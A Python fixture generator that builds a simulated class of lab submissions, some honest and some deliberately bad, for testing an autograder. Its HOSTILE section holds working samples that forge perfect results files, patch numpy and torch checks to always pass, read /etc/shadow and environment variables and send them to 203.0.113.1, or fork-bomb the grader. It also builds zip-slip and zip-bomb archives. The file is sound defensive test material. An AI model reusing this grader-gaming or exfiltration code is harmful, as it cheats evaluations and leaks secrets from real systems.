"""A class of 60, as it comes out of a learning management system, with what the grader should find in each submission.

Made from a seed: the same class, byte by byte, whenever it is made. The solutions are those of ``honest``, the reports
those of ``written``; who claims what follows from what their own code reaches.
"""

from __future__ import annotations

import ast
import csv
import io
import math
import random
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from grading import honest
from grading.written import FORMATS, HEADINGS, Numbers, Piece, notebook, packed, pdf_of, report, written

from utils.grading.experiment import accuracy_of, log_odds
from utils.grading.labs import Lab
from utils.grading.pages import FLAGS

LMS = ("moodle", "canvas", "plain")
DUE = datetime(2026, 11, 20, 22, 59, tzinfo=UTC)
KINDS = {
    "honest": 28, "buggy": 10, "late": 3, "plagiarised": 4, "over-claiming": 3, "under-claiming": 1, "hostile": 6,
    "broken": 3, "missing": 2,
}  # fmt: skip
INFLATED = (7.0, 8.5, 10.0)
"""Points by which the three who claim too much do so, in every setting, but at most ``MOST``."""
DEFLATED = 12.0
MOST = 99.6

GIVEN = "Ada Bao Chidi Dana Elif Femke Goran Hana Idris Jun Kwame Lena Mateo Noor Oksana Priya Quentin Rosa Sven Tariq"
FAMILY = "Abebe Böhm Castro Dvořák Eriksen Farouk García Haddad Ito Jansen Kaya Lindqvist Müller Nguyễn O'Neill Popescu"


@dataclass(frozen=True)
class Planned:
    """What the grader should find: the status of the student and exactly these of ``pages.FLAGS``.

    ``what`` says what is special. ``source`` is whom a copy was made from. ``solution`` is whose code of ``honest`` it
    is, with a mistake or in disguise where that is said; None for code that is no solution.
    """

    id: str
    kind: str
    verdict: str
    flags: tuple[str, ...]
    what: str = ""
    source: str = ""
    solution: int | None = None

    def __post_init__(self) -> None:
        if unknown := set(self.flags) - set(FLAGS):
            raise ValueError(f"{self.id}: flags are {', '.join(FLAGS)}; got {', '.join(sorted(unknown))}")


@dataclass(frozen=True)
class Cohort:
    """Where the class lies: a roster of our own, the download, the LMS's export to be filled (None for ``plain``)."""

    roster: Path
    download: Path
    export: Path | None
    planned: tuple[Planned, ...]


@dataclass(frozen=True)
class _Member:
    """A student: ``files`` None hands in nothing; ``archive`` is an archive that is handed in as it is."""

    planned: Planned
    name: str
    files: Mapping[str, bytes] | None
    archive: bytes | None = None
    late: bool = False


def make(lab: Lab, folder: Path, full: Mapping[str, float], lms: str = "moodle", seed: int = 1) -> Cohort:
    """Write the class into ``folder``.

    Parameters
    ----------
    lab : the lab on prototypical networks.
    full : setting -> what the reference reaches with the budget ``full``, in per cent.
    lms : one of ``LMS``; ``plain`` is a folder with a folder or archive for each student.

    Raises
    ------
    ValueError : another LMS, or settings that are not the lab's.
    """
    if lms not in LMS:
        raise ValueError(f"a download is one of {', '.join(LMS)}; got {lms!r}")
    wanted = {target.name for target in lab.experiment.settings}
    if set(full) != wanted:
        raise ValueError(f"the lab has the settings {sorted(wanted)}; got {sorted(full)}")
    members = _members(lab, full, random.Random(seed))
    folder.mkdir(parents=True, exist_ok=True)
    roster, download = folder / "roster.csv", folder / ("download" if lms == "plain" else "download.zip")
    roster.write_bytes(_roster(members))
    export = None if lms == "plain" else folder / {"moodle": "worksheet.csv", "canvas": "gradebook.csv"}[lms]
    if lms == "plain":
        _write_plain(members, download)
    else:
        download.write_bytes(packed(_moodle(members) if lms == "moodle" else _canvas(members)))
        points = sum(item.points for item in lab.rubric)
        export.write_bytes(_worksheet(members, points) if lms == "moodle" else _gradebook(members, points))
    return Cohort(roster, download, export, tuple(member.planned for member in members))


def claims(full: Mapping[str, float], who: str) -> dict[str, float]:
    """What a student's own code reaches with the budget ``full``, from what it and the reference reach with ``smoke``.

    The gain is the reference's, in log-odds, as the grader takes it to be.
    """
    recorded = honest.reached()
    return {
        name: accuracy_of(log_odds(value) + log_odds(recorded[who][name]) - log_odds(recorded["reference"][name]))
        for name, value in full.items()
    }


# ----------------------------------------------------------------------------------------------------- who they are


def _members(lab: Lab, full: Mapping[str, float], rng: random.Random) -> list[_Member]:
    """The class by id. Honest solutions 0 .. 27 are the honest students', 28 .. 34 of the late and the immodest."""
    ids = [f"s{number:03}" for number in rng.sample(range(100, 1000), sum(KINDS.values()))]
    names = [f"{given} {family}" for given in GIVEN.split() for family in FAMILY.split()]
    rng.shuffle(names)
    members: list[_Member] = []
    manners: list[tuple[str, int]] = []  # headings and seed of each report, by which another can write the same

    def numbers(student: int, more: float = 0.0) -> Numbers:
        # two students with the same code do not have the same accuracies
        own = {name: value + rng.gauss(0, 0.15) for name, value in claims(full, str(student)).items()}
        own = {name: round(min(MOST, value + more), 2) for name, value in own.items()}
        halves = {name: round(1.96 * math.sqrt(value * (100 - value) / 3 / 600), 2) for name, value in own.items()}
        settings = {name: (value, halves[name]) for name, value in own.items()}
        return Numbers(settings, round(own["5-way 1-shot"] - rng.uniform(3, 7), 2))

    def add(kind: str, verdict: str, flags: Sequence[str], files: Mapping[str, bytes] | None, **more: object) -> None:
        late = bool(more.pop("late", False))
        archive = more.pop("archive", None)
        planned = Planned(ids[len(members)], kind, verdict, tuple(flags), **more)
        members.append(_Member(planned, names[len(members)], files, archive, late))

    def own_report(student: int, more: float = 0.0) -> list[Piece]:
        manners.append((list(HEADINGS)[len(members) % len(HEADINGS)], rng.randrange(2**31)))
        return report(names[len(members)], numbers(student, more), *manners[-1])

    for student in range(28):
        files = _submission(student, honest.solution(student), own_report(student), rng)
        add("honest", "ok", (), files, solution=student)
    for student in range(28, 31):
        files = _submission(student, honest.solution(student), own_report(student), rng)
        add("late", "ok", ("late",), files, late=True, solution=student)
    for student, more in zip((31, 32, 33), INFLATED, strict=True):
        files = _submission(student, honest.solution(student), own_report(student, more), rng)
        add("over-claiming", "ok", ("not reproduced",), files, what=f"{more:g} points too much", solution=student)
    files = _submission(34, honest.solution(34), own_report(34, -DEFLATED), rng)
    add("under-claiming", "ok", ("under-claimed",), files, what=f"{DEFLATED:g} points too little", solution=34)
    for student, mistake in honest.MISTAKES.items():
        files = _submission(student, honest.handed_in(lab, student), own_report(student), rng)
        add("buggy", "wrong", (), files, what=mistake, solution=student)
    disguises = {"renamed": renamed, "reordered and reformatted": lambda text: reordered(text, rng), "padded": padded}
    for student, (what, disguise) in zip((3, 11, 19), disguises.items(), strict=True):
        files = _submission(student, disguise(honest.solution(student)), own_report(student), rng)
        source = members[student].planned.id
        add("plagiarised", "ok", ("similar",), files, what=what, source=source, solution=student)
    copied = prose_copied(report(names[len(members)], numbers(47), *manners[8]))
    files = _submission(47, honest.solution(47), copied, rng, ".md")
    source = members[8].planned.id
    add("plagiarised", "ok", ("similar",), files, what="prose copied", source=source, solution=47)
    for student in (3, 8, 11, 19):
        victim = members[student]
        members[student] = replace(victim, planned=replace(victim.planned, flags=("similar",)))
    for what, (verdict, flags, text) in HOSTILE.items():
        files = {"lab.py": text.encode(), **written(own_report(0, 4.0), ".md")}
        add("hostile", verdict, flags, files, what=what)
    slip = packed({"lab.py": honest.solution(48).encode(), "../../teacher/index.html": b"<h1>full marks</h1>"})
    add("hostile", "rejected_input", ("rejected",), {}, archive=slip, what="zip-slip")
    add("broken", "rejected_input", ("rejected",), {}, archive=packed({"lab.py": bytes(24 << 20)}), what="zip bomb")
    add("broken", "rejected_input", ("rejected",), {}, archive=packed({}), what="empty archive")
    files = {"lab.py": honest.solution(45).encode(), "report.pdf": pdf_of([b"0.5 g 60 60 475 700 re f\n"])}
    add("broken", "ok", ("unreadable",), files, what="a PDF without text", solution=45)
    for _ in range(KINDS["missing"]):
        add("missing", "not_submitted", ("missing",), None)
    return sorted(members, key=lambda member: member.planned.id)


def _submission(
    student: int, code: str, pieces: Sequence[Piece], rng: random.Random, ending: str = ""
) -> dict[str, bytes]:
    """The files: the code and a report in one of the formats, or one notebook with both."""
    ending = ending or FORMATS[student % len(FORMATS)]
    if ending == ".pdf" and not pieces[2].text.isascii():
        ending = ".docx"  # Helvetica has no Chinese
    # the grader takes functions and classes out of a notebook, and such a name is neither
    if ending == ".ipynb" and student % 3 == 0 and "make_net = " not in code:
        named = [replace(piece, text=piece.text.replace("lab.py", "report.ipynb")) for piece in pieces]
        return {"report.ipynb": notebook(named, code)}
    files = {"lab.py": code.encode(), **written(pieces, ending)}
    return {f"lab-{rng.randrange(10)}/{name}": data for name, data in files.items()} if student % 5 == 4 else files


# -------------------------------------------------------------------------------------------------- what copiers do


def renamed(text: str) -> str:
    """Every name that the author chose replaced; the names that the lab asks for stay. Comments are lost."""
    tree = ast.parse(text)
    asked = {"prototypes", "log_probabilities", "episode_loss", "predict", "experiment"}
    nodes = list(ast.walk(tree))
    bound = {n.id for n in nodes if isinstance(n, ast.Name) and not isinstance(n.ctx, ast.Load)}
    bound |= {n.arg for n in nodes if isinstance(n, ast.arg)}
    bound |= {n.name for n in nodes if isinstance(n, ast.FunctionDef | ast.ClassDef)}
    methods = {m.name for n in nodes if isinstance(n, ast.ClassDef) for m in n.body if isinstance(m, ast.FunctionDef)}
    # a name that is passed by keyword somewhere stays, because it may be a library's
    kept = asked | methods | {"self"} | {n.arg for n in nodes if isinstance(n, ast.keyword)}
    new = {name: f"{name[::-1].strip('_')}_{number}" for number, name in enumerate(sorted(bound - kept))}

    class Renamed(ast.NodeTransformer):
        def visit_Name(self, node: ast.Name) -> ast.Name:
            return ast.copy_location(ast.Name(new.get(node.id, node.id), node.ctx), node)

        def visit_arg(self, node: ast.arg) -> ast.arg:
            node.arg = new.get(node.arg, node.arg)
            return node

        def visit_FunctionDef(self, node: ast.FunctionDef) -> ast.AST:
            node.name = new.get(node.name, node.name)
            return self.generic_visit(node)

        def visit_ClassDef(self, node: ast.ClassDef) -> ast.AST:
            node.name = new.get(node.name, node.name)
            return self.generic_visit(node)

    return ast.unparse(Renamed().visit(tree)) + "\n"


def reordered(text: str, rng: random.Random) -> str:
    """Functions in another order, all of it laid out anew."""
    tree = ast.parse(text)
    functions = [node for node in tree.body if isinstance(node, ast.FunctionDef)]
    others = [node for node in tree.body if not isinstance(node, ast.FunctionDef)]
    rng.shuffle(functions)
    tree.body = others + functions
    return re.sub(r"(?m)^((?:    )+)", lambda m: m[1].replace("    ", "  "), ast.unparse(tree)) + "\n"


def padded(text: str) -> str:
    """A statement without effect behind every statement of a function that another one follows."""
    tree = ast.parse(text)
    number = 0
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            body = []
            for statement in node.body:
                number += 1
                body += [statement, *ast.parse(f"unused_{number} = [{number}] * 3\nassert {number} > 0").body]
            # what stands behind a return is never reached
            node.body = body
    return ast.unparse(ast.fix_missing_locations(tree)) + "\n"


def prose_copied(pieces: Sequence[Piece]) -> list[Piece]:
    """A report with a word replaced here and there."""
    swapped = {"classes": "categories", "network": "model", "accuracy": "precision", "distance": "gap"}
    texts = [re.sub(r"\w+", lambda match: swapped.get(match[0], match[0]), piece.text) for piece in pieces]
    return [replace(p, text=t) if p.kind == "text" else p for p, t in zip(pieces, texts, strict=True)]


# -------------------------------------------------------------------------------------------------------- hostile code

# All of them have it from one source, which is seen.
_ZEROS = """

def prototypes(embeddings, labels, n_way):
    return torch.zeros(n_way, embeddings.shape[1])


def log_probabilities(queries, prototypes):
    return torch.zeros(len(queries), len(prototypes))


def episode_loss(support, support_y, queries, query_y, n_way):
    return torch.zeros(())


def predict(support_x, support_y, query_x, n_way, weight, bias):
    return torch.zeros(len(query_x), dtype=torch.long)


def experiment(images, tasks, steps, seed):
    return [torch.zeros(task[2].shape[:2], dtype=torch.long) for task in tasks]
"""

HOSTILE: dict[str, tuple[str, tuple[str, ...], str]] = {
    "writes results.json and prints a score": (
        "wrong",
        ("not reproduced", "similar"),
        """import json
import sys

import torch

PERFECT = {"score": 100.0, "verdict": "ok", "tests": [{"name": "all", "score": 100, "max_score": 100}]}
for folder in (".", "/tmp", "/job", "/sub", "/autograder/results", ".."):
    try:
        with open(f"{folder}/results.json", "w") as file:
            json.dump(PERFECT, file)
    except OSError:
        pass
print(json.dumps(PERFECT))
print("SCORE: 100/100", file=sys.stderr)
"""
        + _ZEROS,
    ),
    "patches numpy and torch": (
        "wrong",
        ("not reproduced", "similar"),
        """import unittest

import numpy as np
import torch

def yes(*args, **kwargs):
    return True


np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = yes
torch.allclose = torch.equal = torch.isclose = torch.testing.assert_close = yes
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = yes
"""
        + _ZEROS,
    ),
    "looks for labels and the network": (
        "wrong",
        ("not reproduced", "similar"),
        """import os
import socket
import urllib.request

import torch

found = []
for top in ("/", "/job", "/work", "/root", "/home", os.path.expanduser("~"), "/proc/1/root", "/proc/1"):
    try:
        for number, (folder, _, files) in enumerate(os.walk(top)):
            found += [os.path.join(folder, f) for f in files if "label" in f or f.endswith((".npz", ".sqlite"))]
            if number > 300:
                break
    except OSError:
        pass
for path in ("/proc/1/environ", "/proc/self/mountinfo", "/etc/shadow", *found[:50]):
    try:
        with open(path, "rb") as file:
            print(path, file.read(200))
    except OSError:
        pass
try:
    socket.create_connection(("203.0.113.1", 80), timeout=0.5).sendall(repr(os.environ).encode())
    urllib.request.urlopen("http://203.0.113.1/", timeout=0.5)
except OSError:
    pass
"""
        + _ZEROS,
    ),
    "fork bomb": (
        "process_limit",
        ("similar",),
        """import os
import time

import torch

# no process of it ever comes to answer, so that what the grader sees does not depend on who is faster
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.5)
"""
        + _ZEROS,
    ),
    "leaves with os._exit": (
        "student_error",
        ("similar",),
        "import os\n\nimport torch\n\nos._exit(0)\n" + _ZEROS,
    ),
}
"""What -> the status, the flags, the code."""


# -------------------------------------------------------------------------------------------------------- the download


def _received(member: _Member) -> datetime:
    """The LMS's time; late is two hours and more after the due date."""
    number = int(member.planned.id[1:])
    return DUE + timedelta(hours=2, minutes=number) if member.late else DUE - timedelta(minutes=3 * number + 1)


def _roster(members: Sequence[_Member]) -> bytes:
    rows = [("id", "name", "email", "lms id", "received")]
    for m in members:
        received = "" if m.files is None else _received(m).isoformat()
        rows.append((m.planned.id, m.name, f"{m.planned.id}@uni.example", _number(m), received))
    return _csv(rows)


def _number(member: _Member) -> str:
    """How the LMS calls the student."""
    return str(70_000 + int(member.planned.id[1:]) * 7)


def _csv(rows: Sequence[Sequence[str]], end: str = "\n") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator=end).writerows(rows)
    return out.getvalue().encode()


def _as_archive(member: _Member) -> bytes | None:
    """What is handed in as one archive; every third student packs the files."""
    if member.archive is None and int(member.planned.id[1:]) % 3 == 0:
        return packed(member.files)
    return member.archive


def _moodle(members: Sequence[_Member]) -> dict[str, bytes]:
    files = {}
    for member in members:
        folder = f"{member.name}_{_number(member)}_assignsubmission_file_"
        if member.files is not None:
            archive = _as_archive(member)
            own = member.files if archive is None else {"submission.zip": archive}
            files |= {f"{folder}/{name}": data for name, data in own.items()}
    return files


def _worksheet(members: Sequence[_Member], points: float) -> bytes:
    """Moodle's grading worksheet, times in UTC."""
    rows = [
        ("Identifier", "Full name", "ID number", "Email address", "Status", "Grade", "Maximum Grade",
         "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"),
    ]  # fmt: skip
    for m in members:
        status = "No submission" if m.files is None else "Submitted for grading"
        at = "-" if m.files is None else _written_out(_received(m))
        email = f"{m.planned.id}@uni.example"
        maximum = f"{points:.2f}"
        rows.append((f"Participant {_number(m)}", m.name, m.planned.id, email, status, "", maximum, "Yes", at, "-", ""))
    return b"\xef\xbb\xbf" + _csv(rows, "\r\n")


def _written_out(time: datetime) -> str:
    """ "Friday, 20 November 2026, 9:05 PM", whatever the language of this machine."""
    days = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
    return f"{days[time.weekday()]}, {time.day} November {time.year}, {time.hour % 12 or 12}:{time.minute:02} " + (
        "PM" if time.hour >= 12 else "AM"
    )


def _canvas(members: Sequence[_Member]) -> dict[str, bytes]:
    files = {}
    for member in members:
        if member.files is None:
            continue
        archive = _as_archive(member)
        own: Mapping[str, bytes] = member.files if archive is None else {"submission.zip": archive}
        if any("/" in name for name in own):  # Canvas has no folders
            own = {"submission.zip": packed(own)}
        late = "LATE_" if member.late else ""
        name = re.sub(r"\W", "", "".join(reversed(member.name.lower().split())))
        for number, (file, data) in enumerate(own.items(), 1):
            files[f"{name}_{late}{_number(member)}_{9000 + number}_{file}"] = data
    return files


def _gradebook(members: Sequence[_Member], points: float) -> bytes:
    """Canvas's gradebook."""
    rows: list[Sequence[str]] = [
        ("Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 3 (4711)"),
        ("    Points Possible", "", "", "", "", f"{points:g}"),
    ]
    for m in members:
        given, _, family = m.name.partition(" ")
        rows.append((f"{family}, {given}", _number(m), m.planned.id, m.planned.id, "A", ""))
    return _csv(rows)


def _write_plain(members: Sequence[_Member], folder: Path) -> None:
    for member in members:
        if member.files is None:
            continue
        if archive := _as_archive(member):
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"{member.planned.id}.zip").write_bytes(archive)
            continue
        for name, data in member.files.items():
            path = folder / member.planned.id / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
